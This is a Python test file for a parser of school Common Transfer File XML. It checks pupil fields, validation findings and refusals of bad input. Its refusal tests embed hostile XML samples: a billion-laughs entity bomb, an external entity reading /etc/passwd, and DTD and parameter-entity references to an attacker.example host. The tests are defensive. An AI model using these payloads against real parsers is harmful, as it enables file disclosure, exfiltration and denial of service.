"""Reading CTFs: the specification's illustration, the tolerance rules of spec §1.9, and the
refusals (hostile, malformed, wrongly encoded, not a CTF). No database."""

from __future__ import annotations

import ast
import datetime
from pathlib import Path

import pytest

from cme.transfers.ctf import reader
from cme.transfers.ctf.document import Address, Destination, Document
from cme.transfers.ctf.reader import CtfRefused, read_ctf, version_warning

from .samples import SPEC_EXAMPLE, UPN_1, ctf, pupil

TODAY = datetime.date(2026, 11, 30)


def read(content: bytes | str, name: str = "test.xml") -> Document:
    data = content.encode() if isinstance(content, str) else content
    return read_ctf(data, name=name, today=TODAY)


def test_the_specifications_illustration_is_read_in_full() -> None:
    document = read(SPEC_EXAMPLE)

    header = document.header
    assert (header.version, header.version_number, header.root) == ("25.0", 25, "CTfile")
    assert header.date_time == datetime.datetime(2025, 11, 3, 10, 15)  # noqa: DTZ001 - no zone in a CTF
    assert header.document_qualifier == "full"
    assert (header.source.lea, header.source.estab, header.source.urn) == ("800", "9999", "999999")
    assert header.source.name == "Example Primary School"
    assert header.academic_year == 2025
    assert header.destination is Destination.UNKNOWN
    assert document.warnings == ()
    [only] = document.pupils
    assert only.findings == ()
    assert (only.upn, only.former_upn) == (UPN_1, "W80099992500A")
    assert (only.forename, only.middle_names, only.surname) == ("ALEX", "JO", "EXAMPLE")
    assert (only.date_of_birth, only.sex, only.ethnicity) == (
        datetime.date(2016, 5, 14),
        "F",
        "WBRI",
    )
    assert only.in_care is False
    assert only.address == Address(line_1="1 Example Street", town="Bath", postcode="BA1 0AA")
    [contact] = only.contacts
    assert (contact.full_name, contact.relationship) == ("SAM EXAMPLE", "PAM")
    assert (contact.responsibility, contact.address_as_pupil) == (True, True)
    assert [(p.telephone_type, p.number) for p in contact.phones] == [("M", "07700900000")]
    [year] = only.attendance
    assert (year.year, year.sessions_possible, year.sessions_authorised) == (2025, 70, 4)
    assert (year.sessions_unauthorised, year.sessions_attended) == (12, None)
    assert year.start_date == datetime.date(2025, 9, 3)
    assert year.marks == "/\\/\\/\\NNNN/\\II/\\"
    [school] = only.school_history
    assert (school.laestab, school.entry_date, school.leaving_date) == (
        "8009999",
        datetime.date(2021, 9, 2),
        datetime.date(2025, 11, 3),
    )
    # Elements this service does not model are kept verbatim, in order.
    assert [kept.name for kept in only.kept_basic] == ["NCyearActual", "EnrolStatus"]


def test_gender_is_read_where_older_files_have_it_instead_of_sex() -> None:
    document = read(ctf(pupil(sex="<Gender>m</Gender>"), version="20.0"))

    assert document.pupils[0].sex == "M"
    assert document.pupils[0].findings == ()


def test_an_unknown_sex_is_recorded_as_not_known_with_its_element_path() -> None:
    document = read(ctf(pupil(sex="<Sex>Q</Sex>")))

    [pupil_read] = document.pupils
    assert pupil_read.sex == "U"
    [finding] = pupil_read.findings
    assert finding.path == "/CTfile/CTFpupilData/Pupil/Sex"
    assert str(finding) == (
        "line 2, /CTfile/CTFpupilData/Pupil/Sex: Sex must be M or F; recorded as not known (U)"
    )


@pytest.mark.parametrize(
    ("version", "warned"),
    [("26.0", False), ("25.0", False), ("24.0", True), ("15.0", True), ("27.0", True)],
)
def test_the_current_and_previous_versions_are_read_quietly_older_and_newer_with_a_warning(
    version: str, warned: bool
) -> None:
    document = read(ctf(version=version))

    assert len(document.pupils) == 1
    assert bool(document.warnings) is warned


def test_a_version_before_15_is_refused() -> None:
    with pytest.raises(CtfRefused, match=r"version 14\.0; this service reads version 15\.0"):
        read(ctf(version="14.0"))


def test_the_misspelt_ctfversion_of_vendor_help_pages_is_tolerated() -> None:
    assert read(ctf(version_element="CTFVersion")).header.version == "25.0"


def test_in_august_the_new_academic_years_version_is_already_current() -> None:
    assert version_warning("26.0", 26, today=datetime.date(2026, 8, 1)) is None
    assert version_warning("25.0", 25, today=datetime.date(2026, 8, 1)) is None
    assert version_warning("24.0", 24, today=datetime.date(2026, 9, 1)) is not None


def test_every_bad_value_is_reported_with_its_element_path_and_counts_as_missing() -> None:
    bad = pupil(
        upn="K800999925002",  # wrong check letter
        dob="2016-02-30",
        basic="<FormerUPN>nonsense</FormerUPN>",
        attendance=(
            "<Attendance><YearData><Year>2025</Year><SessionsPossible>lots</SessionsPossible>"
            "</YearData></Attendance>"
        ),
        contacts=(
            "<Contacts><Contact><Surname>A</Surname><Responsibility>maybe</Responsibility>"
            "</Contact></Contacts>"
        ),
    )
    document = read(ctf(pupil(), bad))

    second = document.pupils[1]
    assert (second.upn, second.date_of_birth, second.former_upn) == ("", None, "")
    assert second.attendance[0].sessions_possible is None
    assert second.contacts[0].responsibility is None
    assert [finding.path for finding in second.findings] == [
        "/CTfile/CTFpupilData/Pupil[2]/UPN",
        "/CTfile/CTFpupilData/Pupil[2]/BasicDetails/FormerUPN",
        "/CTfile/CTFpupilData/Pupil[2]/DOB",
        "/CTfile/CTFpupilData/Pupil[2]/Contacts/Contact/Responsibility",
        "/CTfile/CTFpupilData/Pupil[2]/Attendance/YearData/SessionsPossible",
    ]
    messages = [finding.message for finding in second.findings]
    assert messages[0] == "UPN invalid (wrong check letter at character 1); counted as missing"
    assert messages[2] == "DOB is not a real date; counted as missing"
    # Findings never quote the value (a child's identifiers and birth date).
    assert not any("K800999925002" in message or "2016" in message for message in messages)


def test_a_pupil_with_neither_forename_nor_surname_is_rejected_and_the_rest_are_read() -> None:
    document = read(ctf(pupil(forename="", surname=""), pupil(upn="")))

    assert [p.rejected for p in document.pupils] == [True, False]
    assert "pupil rejected" in document.pupils[0].findings[-1].message


def test_a_date_of_birth_in_the_future_counts_as_missing() -> None:
    [only] = read(ctf(pupil(dob="2030-01-01"))).pupils

    assert only.date_of_birth is None
    assert only.findings[0].message == "DOB is in the future; counted as missing"


def test_address_lines_give_line_1_line_2_and_the_town() -> None:
    address = (
        "<Address><AddressLines><AddressLine1>Flat 2</AddressLine1><AddressLine2>3 High St"
        "</AddressLine2><AddressLine3>Widcombe</AddressLine3><AddressLine4>Bath</AddressLine4>"
        "</AddressLines><PostCode>ba2  4qp</PostCode></Address>"
    )
    [only] = read(ctf(pupil(address=address))).pupils

    assert only.address == Address(
        line_1="Flat 2", line_2="3 High St", town="Widcombe, Bath", postcode="BA2 4QP"
    )


def test_a_namespace_is_ignored_with_a_warning() -> None:
    content = ctf().replace(b"<CTfile>", b'<CTfile xmlns="urn:example:ctf">')

    document = read(content)

    assert len(document.pupils) == 1
    assert any("namespace" in warning for warning in document.warnings)


def test_unknown_elements_are_kept_verbatim_and_never_refuse_the_file() -> None:
    extra = "<FSMhistory><FSMreviewDate>2025-01-01</FSMreviewDate></FSMhistory><Mystery a='1'/>"

    [only] = read(ctf(pupil(extra=extra))).pupils

    assert [kept.name for kept in only.kept] == ["FSMhistory", "Mystery"]
    assert only.kept[1].xml == '<Mystery a="1"/>'


def test_files_from_other_authorities_schools_are_read_like_any_other() -> None:
    document = read(ctf(source=("873", "4001"), dest=("873", "LLLL")))

    assert document.header.source.laestab == "8734001"
    assert document.header.destination is Destination.AUTHORITY


def test_an_m_file_is_a_lost_pupil_file_outside_the_maintained_sector() -> None:
    destination = read(ctf(dest=("MMM", "MMMM"))).header.destination

    assert destination is Destination.OUTSIDE
    assert destination.is_lost_pupil is True


# --- Refusals -------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<CTfile><Header><DocumentName>&lol9;</DocumentName></Header></CTfile>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<CTfile><Header><DocumentName>&secret;</DocumentName></Header></CTfile>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile SYSTEM "http://attacker.example/ctf.dtd"><CTfile/>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE CTfile [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]><CTfile/>
"""


@pytest.mark.parametrize(
    "content",
    [
        BILLION_LAUGHS,
        EXTERNAL_ENTITY,
        EXTERNAL_DTD,
        PARAMETER_ENTITY,
        EXTERNAL_ENTITY.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>').encode("utf-16"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "utf-16"],
)
def test_hostile_xml_is_refused_before_anything_is_expanded_or_fetched(content: bytes) -> None:
    with pytest.raises(CtfRefused, match="document type declaration") as refused:
        read(content, name="evil.xml")

    assert refused.value.message.startswith("evil.xml was refused")
    assert "\n" not in refused.value.message


def test_an_undeclared_entity_is_refused() -> None:
    content = ctf().replace(b"<SupplierID>Example MIS", b"<SupplierID>&secret;")

    with pytest.raises(CtfRefused, match="entities"):
        read(content)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "is empty"),
        (b"   \n", "is empty"),
        (b"PK\x03\x04rest of a zip", "a zip archive"),
        (b"%PDF-1.7", "a PDF document"),
        (b"upn,forename\nK800999925001,ALEX\n", "not well-formed XML"),
        (ctf()[:-40], "not well-formed XML"),
        (b"<CTfile><Header>\x00</Header></CTfile>", "XML"),
        (b"<a>" * 300 + b"</a>" * 300, "nested"),
        (
            '<?xml version="1.0" encoding="UTF-8"?><CTfile><Header>é</Header></CTfile>'.encode(
                "latin-1"
            ),
            "encoding",
        ),
        (b"<Pupils><Pupil/></Pupils>", "its root element is <Pupils>, not <CTfile>"),
        (b"<CTfile><CTFpupilData/></CTfile>", "has no Header"),
        (b"<CTfile><Header/></CTfile>", "has no CTFversion"),
        (b"<CTfile><Header><CTFversion>latest</CTFversion></Header></CTfile>", "not a version"),
    ],
    ids=[
        "empty",
        "blank",
        "zip",
        "pdf",
        "csv",
        "truncated",
        "nul",
        "deep",
        "latin-1",
        "not-ctf",
        "no-header",
        "no-version",
        "bad-version",
    ],
)
def test_files_that_are_not_a_readable_ctf_are_refused_with_one_line_saying_why(
    content: bytes, expected: str
) -> None:
    with pytest.raises(CtfRefused) as refused:
        read(content, name="x.xml")

    assert expected in refused.value.message
    assert refused.value.message.startswith("x.xml ")
    assert "\n" not in refused.value.message


def test_a_ctf_in_utf_16_as_its_declaration_says_is_read() -> None:
    content = ctf(prolog='<?xml version="1.0" encoding="UTF-16"?>\n').decode().encode("utf-16")

    assert read(content).pupils[0].surname == "EXAMPLE"


def test_a_file_without_pupils_is_read_with_a_warning() -> None:
    content = ctf().split(b"<CTFpupilData>")[0] + b"</CTfile>"

    document = read(content)

    assert document.pupils == ()
    assert document.warnings == ("the file has no pupils (no CTFpupilData/Pupil elements)",)


def test_the_ctf_core_imports_no_django() -> None:
    """The parser and writer are plain Python (docs/architecture.md C7)."""
    folder = Path(reader.__file__).parent
    for path in folder.glob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imported = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.Import)
            for alias in node.names
        } | {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        assert not any(name.startswith("django") for name in imported), path.name
